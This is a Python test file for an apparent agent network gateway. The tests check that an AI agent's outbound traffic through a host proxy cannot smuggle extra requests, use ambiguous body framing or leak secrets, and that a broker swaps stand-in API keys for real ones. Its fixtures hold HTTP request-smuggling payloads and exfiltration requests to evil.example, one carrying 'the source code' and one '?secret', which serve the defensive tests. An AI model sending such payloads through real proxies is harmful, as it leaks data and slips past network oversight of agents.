"""Behind the host's own proxy: what reaches it is written by us, and leads to the place that was judged."""

from __future__ import annotations

import socket
from collections.abc import Callable, Iterator
from contextlib import ExitStack, contextmanager
from pathlib import Path
from typing import Final

import pytest

from autopilot.config.outward import Outward, Proxy, outward
from autopilot.runner.network.broker import Broker, Key
from autopilot.runner.network.calls import MESSAGES
from autopilot.runner.network.line import Operator
from autopilot.runner.network.names import Target
from autopilot.runner.network.outlet import Gate, Outlet
from autopilot.runner.network.plan import agent_policy, service
from autopilot.schemas.network import NetworkSpec
from tests.support.broker_desk import rest_of
from tests.support.host_proxy import HostProxy
from tests.support.small_net import Pages, SmallNet, talk
from tests.support.town import tunnel
from tests.support.wait import wait_until

MODELS: Final = "models.corp.example:8000"
EVIL: Final = "CONNECT evil.example:443 HTTP/1.1\nHost: evil.example:443\n\nthe source code"
HEAD: Final = f"POST http://{MODELS}/v1 HTTP/1.1\nHost: {MODELS}\n"
SECOND: Final = "GET http://evil.example/?secret HTTP/1.1\nHost: evil.example\n\n"

MakeOutlet = Callable[..., Outlet]


def crlf(text: str) -> bytes:
    return text.replace("\n", "\r\n").encode()


@contextmanager
def visitor(outlet: Outlet) -> Iterator[socket.socket]:
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as client:
        client.settimeout(30)
        client.connect(str(outlet.socket))
        yield client


@pytest.fixture
def proxy() -> Iterator[HostProxy]:
    with HostProxy() as proxy:
        yield proxy


@pytest.fixture
def make_outlet(tmp_path: Path, proxy: HostProxy) -> Iterator[MakeOutlet]:
    """Make the outlet of an agent whose service has this address; the host's proxy is the only way out."""
    with ExitStack() as stack:

        def make(url: str, *, broker: Broker | None = None) -> Outlet:
            net = SmallNet(names={"proxy.corp": ["10.9.9.9"]}, servers={("10.9.9.9", 3128): proxy})
            corp = Proxy("proxy.corp", 3128)
            policy = agent_policy(
                NetworkSpec(static_hosts=("docs.example",)),
                [] if broker else [url],
                brokered=broker.endpoint if broker else None,
            )
            gate = Gate(policy, Operator(net, Outward(http=corp, https=corp)), broker)
            return stack.enter_context(Outlet(tmp_path / "outlet.sock", gate, idle_s=0.5))

        yield make


def test_a_tunnel_to_a_plain_service_leads_there_before_the_agent_can_say_anything(
    make_outlet: MakeOutlet, proxy: HostProxy
) -> None:
    outlet = make_outlet(f"http://{MODELS}")
    talk(outlet.socket, crlf(tunnel(MODELS)), then=crlf(EVIL))
    (heard,) = proxy.heard
    assert heard.startswith(crlf(tunnel(MODELS)))
    assert outlet.refusals.counts() == {}


@pytest.mark.parametrize("method", ["connect", "Connect"])
def test_a_tunnel_is_one_in_whatever_letters_it_is_asked_for(
    make_outlet: MakeOutlet, proxy: HostProxy, method: str
) -> None:
    outlet = make_outlet(f"http://{MODELS}")
    talk(outlet.socket, crlf(f"{method} http://{MODELS}/ HTTP/1.1\nHost: {MODELS}\n\n{EVIL}"))
    assert proxy.heard == []
    assert [refused.code for refused in outlet.refusals.counts()] == ["port-malformed"]


@pytest.mark.parametrize(
    ("request_text", "then", "body"),
    [
        (f"{HEAD}Content-Length: 3\n\nabc{SECOND}", "", "abc"),
        (f"{HEAD}Content-Length: 3\n\nabc", SECOND, "abc"),
        (f"{HEAD}Content-Length: 3\n\na", f"bc{SECOND}", "abc"),
        (f"{HEAD}\n{SECOND}", "", ""),
        (f"{HEAD}Transfer-Encoding: chunked\n\n3\nabc\n0\n\n{SECOND}", "", "3\nabc\n0\n\n"),
        (f"{HEAD}Transfer-Encoding: chunked\n\n3\na", f"bc\n0\nX: y\n\n{SECOND}", "1\na\n2\nbc\n0\n\n"),
        (f"GET http://{MODELS}/v1 HTTP/1.0\n\n{SECOND}", SECOND, ""),
        (f"GET http://docs.example/v1 HTTP/1.1\nHost: docs.example\n\n{SECOND}", SECOND, ""),
    ],
)
def test_a_second_request_on_the_same_connection_never_reaches_the_hosts_proxy(
    make_outlet: MakeOutlet, proxy: HostProxy, request_text: str, then: str, body: str
) -> None:
    outlet = make_outlet(f"http://{MODELS}")
    with visitor(outlet) as client:
        client.sendall(crlf(request_text))
        wait_until(lambda: proxy.all_heard, timeout_s=20, what="the first piece")
        client.sendall(crlf(then))
        assert b"".join(rest_of(client)).startswith(b"HTTP/1.1 200")
    (heard,) = proxy.heard
    head, _, rest = heard.partition(b"\r\n\r\n")
    assert b"/v1 HTTP/1.1\r\n" in head
    assert b"Connection: close" in head
    assert rest == crlf(body)
    assert b"evil" not in heard


@pytest.mark.parametrize(
    "request_text",
    [
        f"{HEAD}Transfer-Encoding: chunked\nContent-Length: 5\n\n0\n\n",
        f"{HEAD}Content-Length: 5\nTransfer-Encoding: chunked\n\n0\n\n",
    ],
)
def test_a_body_with_two_lengths_is_refused_before_anybody_is_called(
    make_outlet: MakeOutlet, proxy: HostProxy, request_text: str
) -> None:
    outlet = make_outlet(f"http://{MODELS}")
    assert b"X-Autopilot-Refused: framing" in talk(outlet.socket, crlf(request_text))
    assert proxy.heard == []


@pytest.mark.parametrize("rest", ["no number\nabc", "3\nabcd\n"])
def test_a_body_that_is_none_ends_it_all(make_outlet: MakeOutlet, proxy: HostProxy, rest: str) -> None:
    outlet = make_outlet(f"http://{MODELS}")
    talk(outlet.socket, crlf(f"{HEAD}Transfer-Encoding: chunked\n\n{rest}{SECOND}"))
    assert b"evil" not in proxy.all_heard


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost", "127.8.9.10", "[::1]"])
def test_a_service_of_this_machine_is_reached_without_the_hosts_proxy(
    tmp_path: Path, proxy: HostProxy, host: str
) -> None:
    """Tunnel, request, and the key broker: no one of them hands a word, or a key, to anybody else."""
    with Pages() as pages:
        at = f"{host}:{pages.server_port}"
        name = host.strip("[]")
        net = SmallNet(names={name: ["127.0.0.1"]}, servers={("127.0.0.1", pages.server_port): pages})
        operator = Operator(net, outward(dict.fromkeys(("http_proxy", "https_proxy"), proxy.url)))
        endpoint = service(f"http://{at}")
        broker = Broker(
            here=Target("127.0.0.1", 3128, is_address=True),
            endpoint=endpoint,
            keys=(Key("stand-in", "the real key"),),
            calls=MESSAGES,
        )
        plain = agent_policy(NetworkSpec(), [f"http://{at}"])
        with Outlet(tmp_path / "plain.sock", Gate(plain, operator)) as outlet:
            ask = f"POST /tunnel HTTP/1.1\nHost: {at}\nContent-Length: 0\nConnection: close\n\n"
            talk(outlet.socket, crlf(tunnel(at)), then=crlf(ask))
            talk(outlet.socket, crlf(f"POST http://{at}/request HTTP/1.1\nHost: {at}\n\n"))
        signed = agent_policy(NetworkSpec(), [], brokered=endpoint)
        with (
            Outlet(tmp_path / "signed.sock", Gate(signed, operator, broker)) as outlet,
            visitor(outlet) as client,
        ):
            call = "POST /v1/messages HTTP/1.1\nHost: 127.0.0.1:3128\nContent-Length: 2\n"
            client.sendall(crlf(f"{call}x-api-key: stand-in\n\n{{}}"))
            assert b"".join(rest_of(client)).startswith(b"HTTP/1.1 200")
        assert [path for _, path, *_ in pages.asked] == ["/tunnel", "/request", "/v1/messages"]
        assert pages.asked[2][2]["x-api-key"] == "the real key"
    assert proxy.heard == []
